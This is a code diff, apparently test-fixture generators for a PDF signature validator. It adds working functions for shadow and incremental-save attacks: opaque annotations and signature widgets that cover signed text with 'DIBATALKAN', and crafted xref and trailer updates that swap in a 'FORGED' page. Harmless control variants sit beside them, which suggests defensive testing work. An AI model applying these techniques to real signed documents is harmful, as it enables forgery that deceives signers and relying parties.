@@ -821,3 +821,317 @@ def shadow_replace_annotation_appearance(src: Path, dst: Path) -> None:
     )
     writer.update_container(annot)
     _save(writer, dst)
+
+
+# --- covering the letter after signing (Evil Annotation / Sneaky Signature) -----------------
+
+BODY_BOX = (60.0, 430.0, 540.0, 520.0)
+"""Over the example letter's body text (page 1, PDF coordinates)."""
+MARGIN_BOX = (440.0, 20.0, 560.0, 50.0)
+"""The example letter's blank bottom margin (page 1)."""
+COVER_TEXT = "DIBATALKAN"
+"""What the covering annotation says."""
+
+
+def _opaque_appearance(
+    writer: IncrementalPdfFileWriter, box: tuple[float, ...], text: str = COVER_TEXT
+) -> Any:
+    """A form XObject the size of ``box``: a white rectangle with red text on it."""
+    w, h = box[2] - box[0], box[3] - box[1]
+    ops = f"1 1 1 rg 0 0 {w} {h} re f 0.8 0 0 rg BT /F1 28 Tf 12 {h / 2 - 10} Td ({text}) Tj ET"
+    return _stream(
+        writer,
+        ops.encode(),
+        Type=pdf_name("/XObject"),
+        Subtype=pdf_name("/Form"),
+        BBox=_rect((0, 0, w, h)),
+        Resources=generic.DictionaryObject(
+            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): _helvetica(writer)})}
+        ),
+    )
+
+
+def _add_annot(
+    src: Path,
+    dst: Path,
+    *,
+    subtype: str = "/Square",
+    box: tuple[float, ...] = BODY_BOX,
+    appearance_box: tuple[float, ...] | None = None,
+    flags: int = 4,
+    **extra: Any,
+) -> None:
+    """Append an annotation with an opaque appearance to page 1 in an incremental update."""
+    writer = _open(src)
+    page_ref, page = _page(writer)
+    annot = generic.DictionaryObject(
+        {
+            pdf_name("/Type"): pdf_name("/Annot"),
+            pdf_name("/Subtype"): pdf_name(subtype),
+            pdf_name("/Rect"): _rect(box),
+            pdf_name("/F"): generic.NumberObject(flags),
+            pdf_name("/P"): page_ref,
+            pdf_name("/AP"): generic.DictionaryObject(
+                {pdf_name("/N"): _opaque_appearance(writer, appearance_box or box)}
+            ),
+        }
+    )
+    for key, value in extra.items():
+        annot[pdf_name(f"/{key}")] = value
+    annots = page.get("/Annots") or generic.ArrayObject()
+    page["/Annots"] = generic.ArrayObject([*annots, writer.add_object(annot)])
+    writer.update_container(page)
+    _save(writer, dst)
+
+
+def cover_with_opaque_square(src: Path, dst: Path) -> None:
+    """Evil Annotation: a Square annotation whose own appearance (white fill, "DIBATALKAN")
+    covers the body text of page 1."""
+    _add_annot(src, dst)
+
+
+def cover_with_hidden_square(src: Path, dst: Path) -> None:
+    """The same square, flagged Hidden: no reader shows it (harmless)."""
+    _add_annot(src, dst, flags=2)
+
+
+def cover_with_transparent_square(src: Path, dst: Path) -> None:
+    """The same square at opacity 0 (/CA 0): drawn fully transparent (harmless)."""
+    _add_annot(src, dst, CA=generic.FloatObject(0))
+
+
+def cover_with_zero_size_square(src: Path, dst: Path) -> None:
+    """The same appearance squeezed into a zero-size rectangle: nothing is drawn."""
+    x, y = BODY_BOX[0], BODY_BOX[1]
+    _add_annot(src, dst, box=(x, y, x, y), appearance_box=BODY_BOX)
+
+
+def note_in_the_margin(src: Path, dst: Path) -> None:
+    """A visible stamp annotation in the blank bottom margin: covers nothing signed."""
+    _add_annot(src, dst, subtype="/Stamp", box=MARGIN_BOX)
+
+
+def cover_with_free_text(src: Path, dst: Path) -> None:
+    """A FreeText annotation without an appearance stream over the body text: readers draw
+    its /Contents from /DA."""
+    writer = _open(src)
+    page_ref, page = _page(writer)
+    annot = generic.DictionaryObject(
+        {
+            pdf_name("/Type"): pdf_name("/Annot"),
+            pdf_name("/Subtype"): pdf_name("/FreeText"),
+            pdf_name("/Rect"): _rect(BODY_BOX),
+            pdf_name("/F"): generic.NumberObject(4),
+            pdf_name("/Contents"): generic.TextStringObject(COVER_TEXT),
+            pdf_name("/DA"): generic.TextStringObject("/Helv 28 Tf 1 0 0 rg"),
+            pdf_name("/C"): generic.ArrayObject([generic.FloatObject(1)] * 3),
+            pdf_name("/P"): page_ref,
+        }
+    )
+    annots = page.get("/Annots") or generic.ArrayObject()
+    page["/Annots"] = generic.ArrayObject([*annots, writer.add_object(annot)])
+    writer.update_container(page)
+    _save(writer, dst)
+
+
+def sneaky_signature_field(src: Path, dst: Path) -> None:
+    """Sneaky Signature: an (unsigned) signature field whose widget appearance covers the
+    body text, added in an incremental update as a later signer would add one."""
+    writer = _open(src)
+    page_ref, page = _page(writer)
+    widget = generic.DictionaryObject(
+        {
+            pdf_name("/Type"): pdf_name("/Annot"),
+            pdf_name("/Subtype"): pdf_name("/Widget"),
+            pdf_name("/FT"): pdf_name("/Sig"),
+            pdf_name("/T"): generic.TextStringObject("Paraf2"),
+            pdf_name("/Rect"): _rect(BODY_BOX),
+            pdf_name("/F"): generic.NumberObject(4),
+            pdf_name("/P"): page_ref,
+            pdf_name("/AP"): generic.DictionaryObject(
+                {pdf_name("/N"): _opaque_appearance(writer, BODY_BOX)}
+            ),
+        }
+    )
+    ref = writer.add_object(widget)
+    annots = page.get("/Annots") or generic.ArrayObject()
+    page["/Annots"] = generic.ArrayObject([*annots, ref])
+    writer.update_container(page)
+    form = writer.root.get("/AcroForm")
+    if form is None:
+        form = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject()})
+        writer.root[pdf_name("/AcroForm")] = writer.add_object(form)
+        writer.update_root()
+    form = form.get_object() if hasattr(form, "get_object") else form
+    form[pdf_name("/Fields")] = generic.ArrayObject([*form.get("/Fields", ()), ref])
+    container = writer.root.raw_get("/AcroForm")
+    if isinstance(container, generic.IndirectObject):
+        writer.mark_update(container)
+    else:
+        writer.update_root()
+    _save(writer, dst)
+
+
+# --- hiding an update from the analysis -----------------------------------------------------
+
+FORGED_TEXT = "FORGED"
+
+
+def deep_nesting_forgery(src: Path, dst: Path, *, depth: int) -> None:
+    """Replace page 1's content with "FORGED" and add an array nested ``depth`` levels deep
+    to the page, in one raw incremental update (classic xref)."""
+    data = src.read_bytes()
+    reader = PdfFileReader(_bytes_io(data), strict=False)
+    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
+    page = page_ref.get_object()
+    size, root, prev = _trailer_facts(data)
+    ops = f"BT /F1 24 Tf 72 720 Td ({FORGED_TEXT}) Tj ET".encode()
+    content_num = size
+    keys = []
+    for key in page:
+        if key in ("/Contents",):
+            continue
+        value = page.raw_get(key)
+        keys.append(f"{key} {_pdf_text(value)}")
+    nest = "[" * depth + "0" + "]" * depth
+    page_body = "<< " + " ".join(keys) + f" /Contents {content_num} 0 R /Nest {nest} >>"
+    out = bytearray(data)
+    out += b"\n"
+    offsets = {}
+    offsets[content_num] = len(out)
+    out += _raw_stream(content_num, 0, ops)
+    offsets[page_ref.idnum] = len(out)
+    out += f"{page_ref.idnum} {page_ref.generation} obj\n{page_body}\nendobj\n".encode()
+    xref_at = len(out)
+    out += b"xref\n"
+    for num in sorted(offsets):
+        gen = page_ref.generation if num == page_ref.idnum else 0
+        out += b"%d 1\n%010d %05d n \n" % (num, offsets[num], gen)
+    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        size + 1,
+        root,
+        prev,
+        xref_at,
+    )
+    dst.write_bytes(bytes(out))
+
+
+def _pdf_text(value: Any) -> str:
+    """A pyHanko object written back as PDF syntax."""
+    import io
+
+    buf = io.BytesIO()
+    value.write_to_stream(buf)
+    return buf.getvalue().decode("latin-1")
+
+
+def empty_xref_new_root(src: Path, dst: Path) -> None:
+    """ISA variant (item 5): the update's cross-reference section lists nothing, but its
+    trailer names a new catalog, page tree and page (with "FORGED" text) appended before it.
+    A viewer that cannot find the new /Root rebuilds the cross-reference table and shows
+    the forged page."""
+    data = src.read_bytes()
+    reader = PdfFileReader(_bytes_io(data), strict=False)
+    page = reader.root["/Pages"].raw_get("/Kids")[0].get_object()
+    size, _root, prev = _trailer_facts(data)
+    cat, pages, pg, content = size, size + 1, size + 2, size + 3
+    ops = f"BT /F1 24 Tf 72 720 Td ({FORGED_TEXT}) Tj ET".encode()
+    resources = _pdf_text(page.raw_get("/Resources"))
+    out = bytearray(data) + b"\n"
+    out += f"{cat} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R >>\nendobj\n".encode()
+    out += f"{pages} 0 obj\n<< /Type /Pages /Kids [{pg} 0 R] /Count 1 >>\nendobj\n".encode()
+    out += (
+        f"{pg} 0 obj\n<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] "
+        f"/Resources {resources} /Contents {content} 0 R >>\nendobj\n"
+    ).encode()
+    out += _raw_stream(content, 0, ops)
+    xref_at = len(out)
+    out += (
+        b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+        % (
+            size + 4,
+            cat,
+            prev,
+            xref_at,
+        )
+    )
+    dst.write_bytes(bytes(out))
+
+
+def prepare_alternative_catalog(letter: Path, dst: Path) -> None:
+    """The harmless-looking original for :func:`empty_xref_switch_root`: the letter plus an
+    unreferenced second catalog, page tree and page (with "FORGED" text) that no reader
+    shows, because the trailer does not name that catalog."""
+    writer = _open(letter)
+    _, page = _page(writer)
+    ops = f"BT /F1 24 Tf 72 720 Td ({FORGED_TEXT}) Tj ET".encode()
+    pages = generic.DictionaryObject(
+        {pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): generic.NumberObject(1)}
+    )
+    pages_ref = writer.add_object(pages)
+    forged = generic.DictionaryObject(
+        {
+            pdf_name("/Type"): pdf_name("/Page"),
+            pdf_name("/Parent"): pages_ref,
+            pdf_name("/MediaBox"): _rect((0, 0, 595, 842)),
+            pdf_name("/Resources"): page.raw_get("/Resources"),
+            pdf_name("/Contents"): _stream(writer, ops),
+        }
+    )
+    pages[pdf_name("/Kids")] = generic.ArrayObject([writer.add_object(forged)])
+    # An empty signature field for the signer to fill, shared by both catalogs, so the
+    # signature is still listed after the switch.
+    page_ref, page = _page(writer)
+    field = writer.add_object(
+        generic.DictionaryObject(
+            {
+                pdf_name("/Type"): pdf_name("/Annot"),
+                pdf_name("/Subtype"): pdf_name("/Widget"),
+                pdf_name("/FT"): pdf_name("/Sig"),
+                pdf_name("/T"): generic.TextStringObject("Signature1"),
+                pdf_name("/Rect"): _rect((0, 0, 0, 0)),
+                pdf_name("/F"): generic.NumberObject(132),
+                pdf_name("/P"): page_ref,
+            }
+        )
+    )
+    page["/Annots"] = generic.ArrayObject([*(page.get("/Annots") or ()), field])
+    writer.update_container(page)
+    form = writer.add_object(
+        generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject([field])})
+    )
+    writer.root[pdf_name("/AcroForm")] = form
+    writer.update_root()
+    writer.add_object(
+        generic.DictionaryObject(
+            {
+                pdf_name("/Type"): pdf_name("/Catalog"),
+                pdf_name("/Pages"): pages_ref,
+                pdf_name("/AcroForm"): form,
+                pdf_name("/EsignTestAlternative"): generic.BooleanObject(True),
+            }
+        )
+    )
+    _save(writer, dst)
+
+
+def empty_xref_switch_root(src: Path, dst: Path) -> None:
+    """ISA variant (item 5): an update whose cross-reference section lists no object at all
+    (only the free head of the list), while its trailer names the prepared second catalog
+    as /Root: every reader now shows the forged page."""
+    data = src.read_bytes()
+    found = re.search(rb"(\d+) (\d+) obj\s*<<[^>]*/EsignTestAlternative true", data)
+    if found is None:
+        found = re.search(
+            rb"(\d+) (\d+) obj\s*<<(?:(?!endobj).)*?/EsignTestAlternative", data, re.S
+        )
+    assert found is not None, "prepare_alternative_catalog was not applied"
+    size, _root, prev = _trailer_facts(data)
+    xref_at = len(data) + 1
+    tail = b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root %s %s R /Prev %d >>\n" % (
+        size,
+        found.group(1),
+        found.group(2),
+        prev,
+    )
+    dst.write_bytes(data + tail + b"startxref\n%d\n%%%%EOF\n" % xref_at)
